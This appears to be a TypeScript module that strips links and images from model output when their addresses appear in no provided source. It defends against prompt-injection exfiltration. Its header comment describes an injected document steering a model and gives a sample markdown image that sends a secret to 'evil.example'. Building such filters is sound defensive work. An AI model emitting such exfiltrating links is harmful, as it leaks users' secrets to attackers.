/**
 * Turns links and images whose address no source holds into plain text. A model that obeys an
 * injected document could otherwise make a chat client fetch
 * `![x](https://evil.example/?d=secret)`, or lead a reader astray.
 */

/** A replacement for `text.slice(start, end)`. */
export interface Edit {
  readonly start: number;
  readonly end: number;
  readonly text: string;
}

/** Also without a scheme, and with one slash or backslashes, which browsers read as two slashes. */
export const URL_START =
  "(?:(?:https?|ftp):[\\/\\\\]{1,9}|www\\.|mailto:|" +
  "(?<![\\p{L}\\p{N}:/\\\\])[\\/\\\\]{2,9}(?=[\\p{L}\\p{N}-]{1,63}\\.\\p{L}))";
/** One character of a bare address. */
export const IN_URL = '[^\\s<>`"“”)\\]]';
/** 1 label and 2 address of a link or an image; 3 a tag with attributes; 4 a bare address. */
const LINK = new RegExp(
  `!?\\[([^\\]\\n]{0,300})\\]\\([^\\S\\n]{0,5}<?([^\\s)>]{1,1500})(?:[>\\s][^)\\n]{0,300})?\\)` +
    `|(<(?=(?:script|style)\\b|[a-z][^\\s<>/]{0,60}[\\s/]{1,20}[^\\s>/]))` +
    `|(${URL_START}${IN_URL}{1,1500}|` +
    `(?<![\\p{L}\\p{N}._%+-])[\\p{L}\\p{N}._%+-]{1,64}@[\\p{L}\\p{N}-]{1,63}(?:\\.[\\p{L}\\p{N}-]{2,63}){1,5})`,
  "giu",
);

/** @param sources texts and addresses of the evidence that may be linked to */
export function foreignLinks(text: string, sources: readonly string[]): Edit[] {
  const quietAt = quietPlaces(text);
  return [...text.matchAll(LINK)].flatMap(({ 0: whole, index: start, ...groups }): Edit[] => {
    const { 1: label, 2: target, 3: tag, 4: bare } = groups;
    if (quietAt(start) !== "") return [];
    // With a space behind it, it opens no tag.
    if (tag !== undefined) return [{ start, end: start + 1, text: "< " }];
    const address = target ?? whole.replace(/[.,;:!?'*_]+$/u, "");
    if (sources.some((source) => source.includes(address))) return [];
    if (bare === undefined) return [{ start, end: start + whole.length, text: label ?? "" }];
    return [{ start, end: start + address.length, text: `\`${address}\`` }];
  });
}

/** Applies the edits between `from` and `to`; of two that overlap, the first wins. */
export function applyEdits(
  text: string,
  edits: readonly Edit[],
  from = 0,
  to = text.length,
): string {
  let out = "";
  let at = from;
  for (const edit of [...edits].sort((a, b) => a.start - b.start)) {
    if (edit.start < at || edit.end > to) continue;
    out += text.slice(at, edit.start) + edit.text;
    at = edit.end;
  }
  return out + text.slice(at, to);
}

const FENCE = /(?<![^\n])[^\S\n]*(?:```|~~~|\$\$|\\\[|\\\])/gu;
/** `$x \in` opens a formula; `$5`, `$US` and `$AAPL rose` do not. */
const NO_FORMULA = /^(?:[\s\d]|\p{Lu}{1,5}\s|$)/u;

/**
 * Tells which places stand in code or a formula, where brackets and addresses are left alone.
 * Judges by the text before a place only, so that a streamed text is read like a whole one, and
 * reads on from the last place, so that places in ascending order take linear time.
 * @returns for each place the signs that opened what it stands in; empty in plain text
 */
export function quietPlaces(text: string): (at: number) => string {
  const fences = [...text.matchAll(FENCE)].map(({ index }) => index);
  let fencesBefore = 0;
  let next = 0;
  let open = { code: false, formula: false, dollars: false };
  return (at) => {
    if (at < next) [fencesBefore, next] = [0, 0];
    while ((fences[fencesBefore] ?? at) < at) fencesBefore += 1;
    for (; next < at; next += 1) {
      const [before, sign] = [text.charAt(next - 1), text.charAt(next)];
      if (sign === "\n" || next === 0) open = { code: false, formula: false, dollars: false };
      if (sign === "`" && before !== "`") open.code = !open.code;
      else if (before === "\\" && "()".includes(sign)) open.formula = sign === "(";
      else if (sign === "$" && open.dollars) open.dollars = before.trim() === "";
      else if (sign === "$") open.dollars = !NO_FORMULA.test(text.slice(next + 1, next + 8));
    }
    const inLine = `${open.formula ? "\\(" : ""}${open.code ? "`" : ""}${open.dollars ? "$x" : ""}`;
    return fencesBefore % 2 === 1 ? `\`\`\`\n${inLine}` : inLine;
  };
}
